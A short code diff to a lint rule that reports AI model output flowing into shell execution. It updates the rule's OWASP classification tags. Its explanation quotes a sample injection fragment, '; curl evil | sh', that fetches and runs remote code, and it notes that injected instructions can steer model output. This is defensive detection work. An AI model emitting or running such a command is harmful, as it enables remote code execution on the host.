@@ -6,7 +6,7 @@ export default modelOutputRule({
   sink: "shell",
   meta: {
     description: "Report model-controlled data that reaches a shell (exec, spawn with shell, bash -c, execa shell, zx)",
-    severity: "error", surveySection: "6.2.2", owasp: "LLM05:2025 Improper Output Handling", cwe: ["CWE-78", "CWE-77"], atlas: ["AML.T0050"],
+    severity: "error", surveySection: "6.2.2", owaspLlm2026: ["LLM10"], owaspAgentic: ["ASI05"], cwe: ["CWE-78", "CWE-77"], atlas: ["AML.T0050"],
     hasSuggestions: true,
     why: "Shell metacharacters in model output (`; curl evil | sh`) run as commands. Models follow injected instructions, so treat their output as attacker-controlled.",
   },
